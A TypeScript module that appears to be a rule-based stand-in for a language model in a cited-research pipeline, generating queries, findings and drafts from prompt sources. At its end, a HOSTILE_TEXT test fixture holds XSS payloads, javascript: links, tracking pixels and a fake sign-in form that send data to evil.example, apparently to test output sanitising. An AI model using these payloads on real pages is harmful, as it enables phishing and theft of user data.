/** What the model stand-in writes: by rule, from the numbered sources in the prompt, so that a run shows cited text without a model. */
/** The last match: instructions may name the same tags before the text itself stands between them. */
const one = (pattern: RegExp, text: string): string => [...text.matchAll(pattern)].at(-1)?.[1]?.trim() ?? '';

export interface PromptSource {
  readonly n: number;
  readonly title: string;
  readonly sentences: readonly string[];
}
const sentencesOf = (text: string): readonly string[] =>
  (text.match(/[^.!?。！？]+[.!?。！？]+/g) ?? [text]).map((sentence) => sentence.trim()).filter((sentence) => sentence.length > 20);

/** The sources of a prompt, as the agents fence them: `<source n="1" title="…">text</source>`. */
export function sourcesIn(prompt: string): readonly PromptSource[] {
  return [...prompt.matchAll(/<source n="(\d+)" title="([^"]*)">([\s\S]*?)<\/source>/g)].map((found) => ({
    n: Number(found[1]),
    title: found[2] ?? '',
    sentences: sentencesOf(found[3]?.trim() ?? ''),
  }));
}
export const topicIn = (prompt: string): string => one(/<topic>([\s\S]*?)<\/topic>/g, prompt) || one(/<request>([\s\S]*?)<\/request>/g, prompt) || 'the topic';

const subject = (topic: string): string =>
  topic
    .replace(/[?!.？！。]+$/, '')
    .replace(/^(how|why|what|when|where|which|who)\s+(do|does|did|is|are|can|should)?\s*/i, '')
    .slice(0, 120);
const capital = (text: string): string => text.charAt(0).toUpperCase() + text.slice(1);

/** Three queries, in a fence with a remark, as models answer. */
export function queriesFor(prompt: string): string {
  const about = subject(topicIn(prompt));
  return `Here are the queries:\n\`\`\`json\n${JSON.stringify([about, `${about} field measurements`, `${about} practice and costs`], null, 1)}\n\`\`\``;
}

const cited = (source: PromptSource | undefined, index: number): string => {
  const sentence = source?.sentences[Math.min(index, source.sentences.length - 1)];
  return source && sentence ? sentence.replace(/([.!?。！？]+)$/, ` [${source.n}]$1`) : '';
};
const joined = (sentences: readonly string[]): string => [...new Set(sentences)].filter((sentence) => sentence !== '').join(' ');

/** Findings with a heading per aspect, every sentence cited. */
export function findingsFor(prompt: string): string {
  const sources = sourcesIn(prompt);
  const [half, rest] = [sources.slice(0, Math.ceil(sources.length / 2)), sources.slice(Math.ceil(sources.length / 2))];
  return [
    '## What is reported',
    joined(half.map((source) => cited(source, 0))),
    '## What it means in practice',
    rest.map((source) => `- ${cited(source, 0)}`).join('\n'),
    '## What is not settled',
    joined(sources.map((source) => cited(source, 2)).slice(0, 3)),
  ]
    .filter((block) => block !== '')
    .join('\n\n');
}

export function knowledgeFor(prompt: string): string {
  const about = subject(topicIn(prompt));
  return `## In general\n\nQuestions about ${about} usually turn on three things: what happens, how it is measured, and what is done about it.\n\n## What to check\n\n- Which of the common claims rest on measurements.\n- How long those measurements ran.\n- Who would gain from another answer.`;
}

/** A draft of about 400 words. With sources every claim is cited; without, none is. */
export function draftFor(prompt: string): string {
  const sources = sourcesIn(prompt);
  const about = subject(topicIn(prompt));
  if (sources.length === 0) {
    const known = one(/<findings>\n([\s\S]*?)<\/findings>/g, prompt)
      .replace(/^.*no live search.*$/im, '')
      .trim();
    return `# ${capital(about)}\n\nThis text rests on general knowledge. Nothing in it was looked up.\n\n${known}\n\n## What is missing\n\nSources. Every statement above should be checked before it is used.`;
  }
  const at = (index: number): PromptSource | undefined => sources[index % sources.length];
  return [
    `# ${capital(about)}`,
    joined([cited(at(0), 0), cited(at(1), 0)]),
    '## What has been observed',
    joined([cited(at(0), 1), cited(at(1), 1), cited(at(2), 0)]),
    joined([`**The reports do not all measure the same thing**, which is worth keeping in mind when they are compared.`, cited(at(2), 1)]),
    '## What is done about it',
    [3, 4, 5]
      .map((index) => cited(at(index), 0))
      .filter((line, index, all) => line !== '' && all.indexOf(line) === index)
      .map((line) => `- ${line}`)
      .join('\n'),
    joined([cited(at(3), 1), cited(at(4), 1)]),
    '## Where reports differ',
    joined([cited(at(2), 2), cited(at(0), 2), cited(at(4), 2)]),
    '| Source | What it covers |\n|---|---|\n' + sources.map((source) => `| [${source.n}] | ${source.title.replaceAll('|', '/')} |`).join('\n'),
    '## What is missing',
    joined([cited(at(5), 1), cited(at(5), 2), cited(at(3), 2)]),
    'What is known comes from short studies at few places. Whoever decides on this ground should plan for being wrong, and measure from the first day.',
  ]
    .filter((block) => block !== '')
    .join('\n\n');
}

/** Text that attacks whoever renders it. */
export const HOSTILE_TEXT = [
  '# Hostile <script>window.__pwned=1</script> draft',
  '<img src=x onerror="window.__pwned=1"> <svg onload="window.__pwned=1"></svg> <iframe src="javascript:window.__pwned=1"></iframe>',
  '[click](javascript:window.__pwned=1) [data](data:text/html,<script>window.__pwned=1</script>) [ref][1] and [2][3]',
  '![pixel](https://evil.example/pixel.png?q=secret) ![x](//evil.example/p.gif)',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div><style>*{display:none}</style>',
  '<form action="https://evil.example/steal"><input name="key"><button>Continue</button></form>',
  'A claim that is cited [1] and one that is not [99].',
  '[1]: javascript:window.__pwned=1',
].join('\n\n');
